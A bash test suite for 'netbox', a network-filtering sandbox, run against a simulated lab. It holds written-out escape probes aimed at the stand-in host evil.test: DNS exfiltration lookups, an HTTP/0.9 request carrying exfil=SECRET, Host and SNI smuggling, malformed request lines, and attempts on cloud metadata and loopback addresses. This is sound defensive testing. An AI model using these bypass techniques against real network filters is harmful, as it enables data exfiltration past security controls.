#!/bin/bash
# net.sh — the filtered network against the lab (tests/lab/lab.sh): real
# clients (node-fetch, Node's fetch, curl, python3, git, npm) reach the hosts
# that --allow names and nothing else; every escape in the list of issue 3
# fails; data arrives intact.  netbox runs as the unprivileged test user in
# the lab's HOST namespace, whose only way out is the lab: nothing here can
# reach a real address, except the npm test against the real registry (its
# own section, skipped when the registry is unreachable).
#
# Escapes are checked twice where it matters: the probe succeeds WITHOUT
# netbox (so the lab really serves it), then fails under netbox, and the
# lab's logs show that nothing arrived.
# Run as root (meson test --suite net); NETBOX is the binary under test.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../lab/lab.sh"

lib_user_up
lab_up

T=$(mktemp -d /tmp/netbox-net.XXXXXX)
chmod 755 "$T"
lib_on_exit "rm -rf '$T'"

cp "$LAB_CA" "$NB_WORK/ca.pem"
cp "$(dirname "$0")/net-probe.py" "$NB_WORK/probe.py"
chmod 644 "$NB_WORK/ca.pem" "$NB_WORK/probe.py"
chown -R "$NB_UID:$NB_GID" "$NB_WORK"

# nbx ARGS... — netbox ARGS in the lab, captured.  plain CMD... — the same
# command without netbox (the baseline).
nbx() { cap hx "$NB" "$@"; }
plain() { cap hx "$@"; }
probe() { echo "$PY" probe.py "$@"; }

# dns_log_has NAME — the lab's DNS server was asked about NAME (or below it).
dns_log_has() {
	local re
	re=$(printf '%s' "$1" | tr 'A-Z' 'a-z' | sed 's/\.$//; s/\./\\./g')
	grep -qE "^[A-Z0-9]+ ([a-z0-9-]+\.)*$re\$" "$LAB_DNS_LOG"
}

# ---------------------------------------------------------------------------
# The seed case: node-fetch@2, ~/.test_me, http://google.com.

# node-fetch comes from the real npm registry, installed THROUGH netbox with
# --allow registry.npmjs.org from the root namespace (the only test that
# leaves the lab; it only reaches registry.npmjs.org, by construction).
SEED="$NB_WORK/seed"
as_user mkdir -p "$SEED"
if curl -sS -m 10 -o /dev/null https://registry.npmjs.org/node-fetch 2>/dev/null; then
	REGISTRY_UP=1
else
	REGISTRY_UP=0
fi

if [ "$REGISTRY_UP" = 1 ]; then
	cap as_user sh -c 'cd seed && exec "$0" --noprofile --allow registry.npmjs.org npm install --no-audit --no-fund --loglevel=error node-fetch@2' "$NB"
	t_is "$RC" 0 "npm install node-fetch@2 through --allow registry.npmjs.org (real registry)"
	[ "$RC" = 0 ] || t_diag "$ERR"
	t_ok "$([ -f "$SEED/node_modules/node-fetch/package.json" ]; echo $?)" "node-fetch is installed in the current directory"
	t_unlike "$ERR" "netbox: denied" "npm with --allow registry.npmjs.org: nothing denied"

	rm -rf "$T/npm-denied" && mkdir -m 777 "$T/npm-denied"
	cap as_user sh -c 'cd "$1" && exec "$0" --noprofile npm install --no-audit --no-fund --fetch-retries=0 is-number' "$NB" "$T/npm-denied"
	t_ok "$([ "$RC" != 0 ]; echo $?)" "npm install without a rule fails"
	t_like "$ERR" "^netbox: denied DNS registry\.npmjs\.org" "npm install without a rule: the denial is reported"
	t_ok "$([ ! -e "$T/npm-denied/node_modules/is-number" ]; echo $?)" "npm install without a rule installed nothing"
else
	t_skip "npm install through --allow registry.npmjs.org" "registry.npmjs.org unreachable"
fi

cat >"$SEED/index.js" <<'EOF'
const fs = require("fs");
const os = require("os");
const fetch = require("node-fetch");
try {
	console.log("file: " + fs.readFileSync(os.homedir() + "/.test_me", "utf8").trim());
} catch (e) {
	console.log("file-error: " + e.code);
}
fetch("http://google.com")
	.then((r) => r.text().then((t) => console.log("fetch: " + r.status + " " + r.url + " " + t.trim())))
	.catch((e) => console.log("fetch-error: " + e.code));
EOF
chown "$NB_UID:$NB_GID" "$SEED/index.js"

if [ -f "$SEED/node_modules/node-fetch/package.json" ]; then
	cap hx sh -c 'cd seed && exec "$0" node index.js' "$NB"
	t_like "$OUT" "^file-error: ENOENT" "seed, no options: ~/.test_me is not there (ENOENT)"
	t_like "$OUT" "^fetch-error: ENOTFOUND" "seed, no options: google.com does not resolve (ENOTFOUND)"
	t_like "$ERR" "^netbox: denied DNS google\.com — --allow google\.com$" "seed, no options: the DNS denial is reported, with its fix"
	t_like "$ERR" "^netbox: the default profile allows no network: " "... after the default profile's hint"
	t_ok "$(dns_log_has google.com && echo 1 || echo 0)" "seed, no options: google.com never reached the lab's DNS"

	cap hx sh -c 'cd seed && exec "$0" --ro ~/.test_me --allow google.com node index.js' "$NB"
	t_like "$OUT" "^file: TEST-ME-CONTENT$" "seed, --ro ~/.test_me: the file is read"
	t_like "$OUT" "^fetch: 200 http://www\.google\.com/ .*lab www\.google\.com" \
		"seed, --allow google.com: the page arrives through the redirect to www.google.com"
	t_unlike "$ERR" "^netbox: denied" "seed, --allow google.com: nothing denied"
else
	t_skip "the seed case with node-fetch@2" "node-fetch could not be installed from registry.npmjs.org"
fi

# ---------------------------------------------------------------------------
# Other real clients.

NODE_FETCH='fetch(process.argv[1]).then(r => r.text()).then(t => console.log(t.trim()), e => { console.log("error " + (e.cause && e.cause.code || e)); process.exit(1); })'
cap hx env NODE_EXTRA_CA_CERTS=ca.pem "$NB" --allow www.google.com node -e "$NODE_FETCH" https://www.google.com/hello
t_is "$RC:$OUT" "0:hello from www.google.com" "Node's own fetch over https"
cap hx env NODE_EXTRA_CA_CERTS=ca.pem "$NB" --allow www.google.com node -e "$NODE_FETCH" https://evil.test/hello
t_like "$RC:$OUT" "^1:error ENOTFOUND" "Node's own fetch of a denied name: ENOTFOUND"

nbx --allow www.google.com curl -sS --max-time 10 http://www.google.com/hello
t_is "$RC:$OUT" "0:hello from www.google.com" "curl over http"
nbx --allow www.google.com curl -sS --max-time 10 --cacert ca.pem https://www.google.com/whoami
t_like "$OUT" "^scheme=https host=www\.google\.com sni=www\.google\.com " "curl over https: SNI and Host reach the server"
t_like "$OUT" " local=203\.0\.113\.11 port=443 | local=2001:db8:113::11 port=443 " "curl over https: the connection reached www.google.com's real address"
nbx --allow www.google.com curl -sS --max-time 10 --cacert ca.pem -o /dev/null -w '%{http_code} %{remote_ip}' https://www.google.com/hello
t_like "$OUT" "^200 198\.(18|19)\." "curl over https: the program sees a fake address from 198.18.0.0/15"

nbx --allow www.google.com $(probe get https://www.google.com/hello ca.pem)
t_is "$OUT" "200 hello from www.google.com" "python3 urllib over https"

rm -rf "$NB_WORK/repo"
nbx --allow git.test env GIT_SSL_CAINFO=ca.pem git clone -q "$LAB_GIT_URL" repo
t_is "$RC" 0 "git clone over https"
t_is "$(cat "$NB_WORK/repo/$LAB_GIT_FILE" 2>/dev/null)" "$LAB_GIT_CONTENT" "git clone: the file arrived"
t_is "$(as_user git -C repo rev-parse HEAD 2>/dev/null)" "$LAB_GIT_HEAD" "git clone: the history is the lab's"

nbx --allow registry.test npm install --no-audit --no-fund --loglevel=error \
	--registry "$LAB_NPM_REGISTRY" --cafile ca.pem "$LAB_NPM_PKG"
t_is "$RC" 0 "npm install from the lab registry with --allow registry.test"
nbx node -e "console.log(require('$LAB_NPM_PKG'))"
t_is "$OUT" "$LAB_NPM_GREETING" "the package npm installed works"

# getent: a fake address, stable for the run; AAAA empty (no IPv6 fakes).
nbx --allow www.google.com sh -c 'getent ahostsv4 www.google.com | head -1; getent ahostsv4 www.google.com | head -1; getent ahostsv6 www.google.com; echo "v6=$?"'
t_like "$OUT" "^198\.1[89]\.[0-9]+\.[0-9]+ " "getent hosts: a fake address in 198.18.0.0/15"
t_is "$(printf '%s\n' "$OUT" | head -2 | awk '{print $1}' | uniq | wc -l)" 1 "getent hosts: the same fake address on every lookup"
t_like "$OUT" "v6=2" "getent ahostsv6: no IPv6 address (AAAA answers are empty)"

# Other query types for allowed names go upstream verbatim.
nbx --allow www.google.com $(probe dns 203.0.113.2 www.google.com MX)
t_like "$OUT" "^NOERROR" "an MX query for an allowed name is answered (forwarded)"
t_ok "$(grep -q '^MX www.google.com$' "$LAB_DNS_LOG"; echo $?)" "the MX query reached the upstream DNS as MX"

# ---------------------------------------------------------------------------
# Escapes.  Each first works without netbox (the lab serves it), then fails.

: >"$LAB_DNS_LOG"
plain curl -sS --max-time 5 http://evil.test/hello
t_is "$OUT" "hello from evil.test" "baseline: evil.test answers without netbox"
: >"$LAB_DNS_LOG" && : >"$LAB_HTTP_LOG"
nbx --allow www.google.com curl -sS --max-time 10 http://evil.test/hello
t_like "$RC" "^6$" "a name no rule allows does not resolve (curl exit 6)"
t_like "$ERR" "^netbox: denied DNS evil\.test — --allow evil\.test$" "the DNS denial is one line on stderr"
t_ok "$(dns_log_has evil.test && echo 1 || echo 0)" "the denied name never reached the lab's DNS (no exfiltration)"
t_is "$(grep -c 'evil.test' "$LAB_HTTP_LOG")" 0 "evil.test's web server saw nothing"

for n in secret-1234.evil.test evil.test. EVIL.TEST; do
	nbx --allow www.google.com $(probe dns 203.0.113.2 "$n" TXT)
	t_is "$OUT" "NXDOMAIN" "TXT $n straight to the lab's DNS address: NXDOMAIN from netbox"
done
nbx --allow www.google.com $(probe dns 2001:db8:113::2 evil.test A tcp)
t_is "$OUT" "NXDOMAIN" "DNS over TCP to the lab's IPv6 DNS address: NXDOMAIN from netbox"
nbx --allow www.google.com $(probe dns 203.0.113.2 www.google.com A)
t_like "$OUT" "^NOERROR 198\.1[89]\." "an allowed name asked of another server: still netbox's fake address"
t_ok "$(dns_log_has evil.test && echo 1 || echo 0)" "no DNS query for evil.test reached the lab, by any route"

# Hostname tricks: lookalikes of an allowed name.
: >"$LAB_DNS_LOG"
for n in allowed.test.evil.test evilallowed.test; do
	nbx --allow allowed.test curl -sS --max-time 10 "http://$n/hello"
	t_is "$RC" 6 "--allow allowed.test: $n does not resolve"
	t_ok "$(dns_log_has "$n" && echo 1 || echo 0)" "--allow allowed.test: $n never reached the lab's DNS"
done
nbx --allow allowed.test curl -sS --max-time 10 http://ALLOWED.TEST./hello
t_is "$RC:$OUT" "0:hello from allowed.test" "--allow allowed.test: ALLOWED.TEST. is the same host"
nbx --allow allowed.test curl -sS --max-time 10 http://sub.allowed.test/hello
t_is "$RC:$OUT" "0:hello from sub.allowed.test" "--allow allowed.test covers sub.allowed.test"
nbx --allow =allowed.test curl -sS --max-time 10 http://sub.allowed.test/hello
t_is "$RC" 6 "--allow =allowed.test does not cover sub.allowed.test"
: >"$LAB_DNS_LOG"
nbx --allow '*' --deny allowed.test curl -sS --max-time 10 http://ALLOWED.TEST./hello
t_is "$RC" 6 "--deny allowed.test: ALLOWED.TEST. is denied too"
nbx --allow '*' --deny allowed.test curl -sS --max-time 10 http://sub.allowed.test/hello
t_is "$RC" 6 "--deny allowed.test: sub.allowed.test is denied too"
t_ok "$(dns_log_has allowed.test && echo 1 || echo 0)" "denied lookalikes never reached the lab's DNS"

# Raw addresses, IPv4 and IPv6.
plain curl -sS --max-time 5 http://203.0.113.13/hello
t_is "$OUT" "hello from 203.0.113.13" "baseline: evil.test's raw address answers without netbox"
: >"$LAB_HTTP_LOG"
nbx --allow www.google.com curl -sS --max-time 10 http://203.0.113.13/hello
t_ok "$([ "$RC" != 0 ]; echo $?)" "a raw IPv4 address is refused"
t_like "$ERR" "^netbox: denied 203\.0\.113\.13:80 \(no rule\)$" "the raw-address denial is one line on stderr"
nbx --allow www.google.com curl -sS --max-time 10 -g "http://[2001:db8:113::13]/hello"
t_ok "$([ "$RC" != 0 ]; echo $?)" "a raw IPv6 address is refused"
t_like "$ERR" "^netbox: denied \[?2001:db8:113::13\]?:80 " "the IPv6 denial is reported"
nbx --allow www.google.com curl -sS --max-time 10 --cacert ca.pem --connect-to www.google.com:443:203.0.113.13:443 https://www.google.com/hello
t_ok "$([ "$RC" != 0 ]; echo $?)" "an allowed SNI sent to a raw address is refused"
t_is "$(grep -c . "$LAB_HTTP_LOG")" 0 "no raw-address request reached the lab's web servers"
nbx --allow 203.0.113.13:9000 $(probe tcp 203.0.113.13 9000 hi)
t_is "$OUT" "reply hi" "--allow 203.0.113.13:9000: an IP rule lets the raw address through"
nbx --allow '[2001:db8:113::/64]:9000' $(probe tcp 2001:db8:113::13 9000 hi6)
t_is "$OUT" "reply hi6" "--allow [2001:db8:113::/64]:9000: a CIDR rule lets IPv6 through"
nbx --allow 203.0.113.13:9000 $(probe tcp 203.0.113.14 9000 hi)
t_ok "$([ "$OUT" != "reply hi" ]; echo $?)" "--allow 203.0.113.13:9000 does not open its neighbour .14"

# SNI and Host tricks: a denied name sent to an allowed name's address.
: >"$LAB_HTTP_LOG"
nbx --allow www.google.com curl -sS --max-time 10 --cacert ca.pem --connect-to evil.test:443:www.google.com:443 https://evil.test/echo-sni
t_ok "$([ "$RC" != 0 ]; echo $?)" "SNI evil.test to www.google.com's address is refused"
t_like "$ERR" "^netbox: denied www\.google\.com:443 \(SNI evil\.test does not match www\.google\.com\)" "the SNI mismatch is reported"
nbx --allow www.google.com curl -sS --max-time 10 -H "Host: evil.test" http://www.google.com/echo-host
t_ok "$([ "$RC" != 0 ]; echo $?)" "Host: evil.test to www.google.com's address is refused"
t_like "$ERR" "^netbox: denied www\.google\.com:80 \(Host evil\.test does not match www\.google\.com\)" "the Host mismatch is reported"
nbx --allow www.google.com $(probe send www.google.com 80 0 'GET%20http://evil.test/hello%0D%0A')
t_like "$ERR" "^netbox: denied www\.google\.com:80 \(HTTP/0\.9 carries no Host" "HTTP/0.9 on port 80 is refused, and says why"
t_is "$(grep -c . "$LAB_HTTP_LOG")" 0 "no mismatched request reached the lab's web servers"
nbx --allow www.google.com curl -sS --max-time 10 -H "Host: WWW.Google.COM." http://www.google.com/echo-host
t_is "$RC:$OUT" "0:WWW.Google.COM." "a Host header that only differs in case and trailing dot passes unchanged"

# The Host check on a port a rule names.  The lab's :8080 serves any method,
# in any case, after empty lines: a client that netbox did not recognise as
# HTTP would reach another virtual host behind the allowed address.  netbox
# checks whatever a server could take for HTTP, whenever it comes.
HP=$LAB_HTTP_ANY_PORT
# req METHOD HOST [PREFIX] — a GET-like request for /hello, percent-encoded for
# "probe send" (PREFIX goes before the request line).
req() {
	printf '%s%s%%20/hello%%20HTTP/1.1%%0D%%0AHost:%%20%s%%0D%%0AConnection:%%20close%%0D%%0A%%0D%%0A' \
		"${3:-}" "$1" "$2"
}
CRLF2='%0D%0A%0D%0A'
# nbh: nbx, with every stderr kept for the sanitizer check at the end.
HOST_ERR=
nbh() { nbx "$@"; HOST_ERR+=$ERR; }
plain $(probe send allowed.test $HP 0 "$(req PROPFIND evil.test)")
t_is "$OUT" "reply HTTP/1.1 200 OK | hello from evil.test" \
	"baseline: PROPFIND with Host: evil.test at allowed.test's address reaches evil.test's virtual host"
plain $(probe send allowed.test $HP 0 "$(req GET evil.test "$CRLF2")")
t_is "$OUT" "reply HTTP/1.1 200 OK | hello from evil.test" "baseline: so does a request after two empty lines"
plain $(probe send allowed.test $HP 0 "$(req get evil.test)")
t_is "$OUT" "reply HTTP/1.1 200 OK | hello from evil.test" "baseline: so does a lower-case get"
plain $(probe send allowed.test $HP 0 'GET%20/hello%20HTTP/1.1%0D%0AHost:%20evil.test%0D%0A')
t_is "$OUT" "reply HTTP/1.1 200 OK | hello from evil.test" "baseline: so does a head ended by the client's FIN"
# Requests that name evil.test other than by Host, each shown reaching
# evil.test's virtual host at allowed.test's address without netbox
# (HTTP/0.9 is answered with the body alone, no status line):
H09_ABS='GET%20http://evil.test/hello?exfil=SECRET%0D%0A'	# HTTP/0.9, an absolute URL
H09_HOST='GET%20/hello%0D%0AHost:%20evil.test%0D%0A%0D%0A'	# HTTP/0.9, then a Host header
H09_FIN='GET%20http://evil.test/hello'				# HTTP/0.9 ended by the client's FIN
ABS11='GET%20http://evil.test/hello%20HTTP/1.1%0D%0AHost:%20allowed.test%0D%0AConnection:%20close%0D%0A%0D%0A'
ABS10='GET%20http://evil.test/hello%20HTTP/1.0%0D%0A%0D%0A'	# the URL alone names the host
# NBSP between the words: whitespace to Python's str.split(), which this
# server (http.server, as wsgiref) splits the request line with
NBSP='GET%A0/hello%A0HTTP/1.1%0D%0AHost:%20evil.test%0D%0AConnection:%20close%0D%0A%0D%0A'
for r in "$H09_ABS" "$H09_HOST" "$H09_FIN" "$ABS11" "$ABS10" "$NBSP"; do
	plain $(probe send allowed.test $HP 0 "$r")
	t_like "$OUT" '^reply (HTTP/1\.1 200 OK \| )?hello from evil\.test( \| )?$' \
		"baseline: $r at allowed.test's address reaches evil.test's virtual host"
done
: >"$LAB_HTTP_LOG"
for m in PROPFIND get M-SEARCH; do
	nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$(req $m evil.test)")
	t_like "$OUT" "^(ECONNRESET|ENOTCONN|EPIPE)" "--allow allowed.test:$HP: $m with Host: evil.test is refused (reset)"
	t_like "$ERR" "denied allowed\.test:$HP \(Host evil\.test does not match allowed\.test\)" "... and the mismatch is reported"
	nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$(req $m allowed.test)")
	t_is "$OUT" "reply HTTP/1.1 200 OK | hello from allowed.test" "--allow allowed.test:$HP: $m with the right Host passes"
done
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$(req GET evil.test "$CRLF2")")
t_like "$ERR" "denied allowed\.test:$HP \(Host evil\.test does not match" "a request after two empty lines with Host: evil.test is refused"
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$(req GET allowed.test "$CRLF2")")
t_is "$OUT" "reply HTTP/1.1 200 OK | hello from allowed.test" "... with the right Host it passes (the server skips the empty lines)"
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$(req GET evil.test %0A)")
t_like "$ERR" "denied allowed\.test:$HP \(malformed HTTP request\)" "a request after a bare LF is refused as malformed"
# Timing: silent past the 300 ms sniff, then a request; a request line, a
# pause, then the Host header.
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0.6 "$(req PROPFIND evil.test)")
t_like "$ERR" "denied allowed\.test:$HP \(Host evil\.test does not match" "a client silent for 0.6 s, then Host: evil.test: still refused"
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0.6 "$(req PROPFIND allowed.test)")
t_is "$OUT" "reply HTTP/1.1 200 OK | hello from allowed.test" "... with the right Host it passes"
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 'GET%20/hello%20HTTP/1.1%0D%0A' 0.6 "Host:%20evil.test$CRLF2")
t_like "$ERR" "denied allowed\.test:$HP \(Host evil\.test does not match" "a request line, 0.6 s, then Host: evil.test: refused"
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 'GET%20/hello%20HTTP/1.1%0D%0AHost:%20allowed.test%0D%0A' 0.6 "%0D%0A")
t_is "$OUT" "reply HTTP/1.1 200 OK | hello from allowed.test" "... the same split with the right Host passes"
# A head cut short by the client's FIN: this server serves it, netbox does
# not wait for the rest that will never come.
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 'GET%20/hello%20HTTP/1.1%0D%0AHost:%20evil.test%0D%0A')
t_like "$ERR" "denied allowed\.test:$HP \(malformed HTTP request\)" "a head ended by the client's FIN is refused as malformed"
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 'PRI%20*%20HTTP/2.0%0D%0A%0D%0ASM%0D%0A%0D%0A')
t_like "$ERR" "denied allowed\.test:$HP \(HTTP/2 without TLS \(h2c prior knowledge\)" "h2c prior knowledge on a rule's port is refused, and says why"
for r in "$H09_ABS" "$H09_HOST" "$H09_FIN"; do
	nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$r")
	t_like "$OUT" "^(ECONNRESET|ENOTCONN|EPIPE)" "HTTP/0.9 on a rule's port is refused (reset): $r"
	t_like "$ERR" "denied allowed\.test:$HP \(HTTP/0\.9 carries no Host" "... and says why"
done
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$ABS11")
t_like "$ERR" "denied allowed\.test:$HP \(malformed HTTP request\)" \
	"HTTP/1.1 with an absolute URL for evil.test and Host: allowed.test is refused (they disagree)"
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$NBSP")
t_like "$ERR" "denied allowed\.test:$HP \(malformed HTTP request\)" \
	"a request line split by NBSP is HTTP to netbox too, and refused as malformed"
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 "$ABS10")
t_like "$ERR" "denied allowed\.test:$HP \(Host evil\.test does not match allowed\.test\)" \
	"HTTP/1.0 with an absolute URL for evil.test is refused: the URL names the host"
nbh --allow allowed.test:$HP $(probe send allowed.test $HP 0 \
	'GET%20http://allowed.test/hello%20HTTP/1.1%0D%0AHost:%20allowed.test%0D%0AConnection:%20close%0D%0A%0D%0A')
t_is "$OUT" "reply HTTP/1.1 200 OK | hello from allowed.test" "... an absolute URL for allowed.test passes"
t_is "$(grep -c ' evil\.test ' "$LAB_HTTP_LOG")" 0 "no request for evil.test reached the lab's :$HP"
t_is "$(grep -c '^http allowed\.test [A-Za-z-]* \(http://allowed\.test\)\?/hello 200 ' "$LAB_HTTP_LOG")" 7 "the 7 requests for allowed.test all arrived"
t_unlike "$HOST_ERR" "AddressSanitizer|LeakSanitizer|runtime error" "no sanitizer report from these runs"

# UDP (other than DNS) and ICMP go nowhere.
: >"$LAB_ECHO_LOG"
plain $(probe udp 203.0.113.13 9999)
t_is "$OUT" "reply" "baseline: the UDP echo answers without netbox"
: >"$LAB_ECHO_LOG"
nbx --allow evil.test:9999 $(probe udp 203.0.113.13 9999)
t_ok "$([ "$OUT" != reply ]; echo $?)" "UDP to a raw address gets no reply"
nbx --allow evil.test:9999 $(probe udp evil.test 9999)
t_ok "$([ "$OUT" != reply ]; echo $?)" "UDP to an allowed name gets no reply"
nbx --allow '2001:db8:113::13' $(probe udp 2001:db8:113::13 9999)
t_ok "$([ "$OUT" != reply ]; echo $?)" "UDP over IPv6 gets no reply"
t_is "$(grep -c '^udp' "$LAB_ECHO_LOG")" 0 "no datagram reached the lab's UDP echo"

icmp_in() { lab_inet_exec awk '/^Icmp:/ { if (h) { print $2 } else h = 1 }' /proc/net/snmp; }
before=$(icmp_in)
lab_host_exec ping -c 1 -W 2 203.0.113.13 >/dev/null 2>&1
after=$(icmp_in)
t_ok "$([ "$after" -gt "$before" ]; echo $?)" "baseline: a ping reaches the lab (InMsgs $before -> $after)"
before=$(icmp_in)
nbx ping -c 1 -W 1 203.0.113.13
nbx ping -6 -c 1 -W 1 2001:db8:113::13
nbx $(probe raw)
t_ok "$([ "$OUT" != opened ]; echo $?)" "a raw ICMP socket cannot be opened"
after=$(icmp_in)
t_is "$after" "$before" "no ICMP message from the sandbox reached the lab"

# The host's loopback: a service on 127.0.0.1:7777 in the HOST namespace.
: >"$LAB_SECRET_LOG"
plain $(probe tcp 127.0.0.1 7777)
t_is "$OUT" "reply $LAB_SECRET" "baseline: the host's loopback service answers without netbox"
: >"$LAB_SECRET_LOG"
nbx $(probe tcp 127.0.0.1 7777)
t_ok "$([ "$OUT" != "reply $LAB_SECRET" ]; echo $?)" "127.0.0.1:7777 is the sandbox's own loopback, not the host's"
nbx --allow loopback.test:7777 $(probe tcp loopback.test 7777)
t_ok "$([ "$OUT" != "reply $LAB_SECRET" ]; echo $?)" "--allow loopback.test:7777: a name resolving to 127.0.0.1 does not reach the host"
t_like "$ERR" "denied loopback\.test:7777 \(.*loopback" "the loopback refusal says why"
nbx --allow loopback.test curl -sS --max-time 10 http://loopback.test/
t_ok "$([ "$RC" != 0 ]; echo $?)" "--allow loopback.test: http://loopback.test/ is refused"
for n in mapped-loopback.test nat64-loopback.test zero.test; do
	nbx --allow "$n:7777" $(probe tcp "$n" 7777)
	t_ok "$([ "$OUT" != "reply $LAB_SECRET" ]; echo $?)" "--allow $n:7777 does not reach the host's loopback"
done
nbx --allow '*' curl -sS --max-time 10 http://loopback.test/
t_ok "$([ "$RC" != 0 ]; echo $?)" "--allow '*' does not reach loopback"
t_is "$(grep -c . "$LAB_SECRET_LOG")" 0 "nothing reached the host's loopback service"

: >"$LAB_HTTP_LOG"
nbx --allow metadata.test curl -sS --max-time 10 http://metadata.test/
t_ok "$([ "$RC" != 0 ]; echo $?)" "--allow metadata.test: 169.254.169.254 is refused"
t_like "$ERR" "denied metadata\.test:80 \(.*link-local" "the link-local refusal says why"
nbx --allow '*' curl -sS --max-time 10 http://private.test/
t_ok "$([ "$RC" != 0 ]; echo $?)" "--allow '*': a private address (10.0.0.1) is refused"
nbx --allow private.test curl -sS --max-time 10 http://private.test/hello
t_is "$RC:$OUT" "0:hello from private.test" "--allow private.test: a named rule reaches a private address"
t_unlike "$(cat "$LAB_HTTP_LOG")" "metadata" "nothing reached the metadata address"

# Ports: a rule's ports are served, others are not.
nbx --allow evil.test $(probe tcp evil.test 9000 x)
t_ok "$([ "$OUT" != "reply x" ]; echo $?)" "--allow evil.test (80,443): port 9000 stays closed"
nbx --allow evil.test:9000 $(probe tcp evil.test 9000 x)
t_is "$OUT" "reply x" "--allow evil.test:9000 reaches the echo service"
nbx --allow evil.test:9000 curl -sS --max-time 10 http://evil.test/hello
t_ok "$([ "$RC" != 0 ]; echo $?)" "--allow evil.test:9000: port 80 is refused"

# Upstream: IPv6-only and IPv4-only hosts, truncated DNS, refused ports.
for n in v6only.test v4only.test tc.test; do
	nbx --allow "$n" curl -sS --max-time 10 "http://$n/hello"
	t_is "$RC:$OUT" "0:hello from $n" "--allow $n: reached (the program always sees an IPv4 fake)"
done
start=$(date +%s)
nbx --allow evil.test:9001 $(probe tcp evil.test 9001 x)
t_like "$OUT" "^(ECONNRESET|ECONNREFUSED|EPIPE)" "an allowed port where the host refuses: the program sees a reset"
t_ok "$([ $(($(date +%s) - start)) -lt 5 ]; echo $?)" "the refusal arrives at once, not after a timeout"

# ---------------------------------------------------------------------------
# Data integrity.

N=$((48 * 1024 * 1024))
nbx --allow big.test sh -c "curl -sS --max-time 60 --cacert ca.pem 'https://big.test/bytes?n=$N&seed=7' | sha256sum"
t_is "${OUT%% *}" "$(lab_bytes_sha256 "$N" 7)" "48 MiB download over https: the hash matches"
nbx --allow big.test $(probe upload https://big.test/sha256 ca.pem $((24 * 1024 * 1024)))
t_is "$OUT" "match" "24 MiB upload over https: the server's hash matches"
nbx --allow evil.test:9000 $(probe halfclose evil.test 9000 $((8 * 1024 * 1024)))
t_is "$OUT" "match $((8 * 1024 * 1024))" "half-close: 8 MiB sent, write side shut, the whole echo read back"
nbx --allow evil.test:9000 $(probe concurrent evil.test 9000 200)
t_is "$OUT" "200 ok" "200 concurrent connections, each echoed intact"

# ---------------------------------------------------------------------------
# The report, --quiet, --net=none.

nbx --allow www.google.com sh -c 'curl -sS --max-time 5 http://www.google.com/hello >/dev/null; curl -sS --max-time 5 http://evil.test/ 2>/dev/null; curl -sS --max-time 5 http://evil.test/ 2>/dev/null; true'
t_is "$(printf '%s\n' "$ERR" | grep -c '^netbox: denied DNS evil\.test — ')" 1 "a denied name is reported once, however often it is asked"
t_like "$ERR" "network summary: 1 host allowed, 1 denied" "the exit summary counts hosts allowed and denied"
t_like "$ERR" "allowed +www\.google\.com +80 " "the summary lists the allowed host and its port"
t_like "$ERR" "denied +evil\.test " "the summary lists the denied host"
nbx --allow www.google.com sh -c 'curl -sS --max-time 5 http://www.google.com/hello >/dev/null; curl -sS --max-time 5 -H "Host: evil.test" http://www.google.com/ 2>/dev/null; true'
t_like "$ERR" "partly +www\.google\.com +80 +[0-9]+ +2 +[0-9.]+ [KMG]?i?B .*\(Host evil\.test does not match" "a host with allowed and refused connections: 'partly', both counted, bytes and reason shown"
nbx --quiet --allow www.google.com sh -c 'curl -sS --max-time 5 http://www.google.com/hello; curl -sS --max-time 5 http://evil.test/ 2>/dev/null; true'
t_is "$OUT|$ERR" "hello from www.google.com|" "--quiet: no denial line and no summary"

nbx --net=none --allow www.google.com true
t_is "$RC" 125 "--net=none with --allow is an error"
t_like "$ERR" "^netbox: .*—" "--net=none with --allow: one clear line"
nbx --net=none curl -sS --max-time 5 http://www.google.com/
t_ok "$([ "$RC" != 0 ]; echo $?)" "--net=none: nothing resolves, no proxy"
nbx --allow 'bad name!' true
t_is "$RC:$(printf '%s\n' "$ERR" | wc -l)" "125:1" "a bad pattern: exit 125 and one line, before anything runs"

# The program keeps its own loopback ports (a test server) under the filter.
nbx --allow www.google.com "$PY" -c '
import socket, threading
s = socket.socket(); s.bind(("127.0.0.1", 3000)); s.listen()
def serve():
    c, _ = s.accept(); c.sendall(b"own-server"); c.close()
threading.Thread(target=serve).start()
print(socket.create_connection(("127.0.0.1", 3000)).recv(64).decode())'
t_is "$OUT" "own-server" "a program still serves and reaches its own 127.0.0.1:3000"

t_done
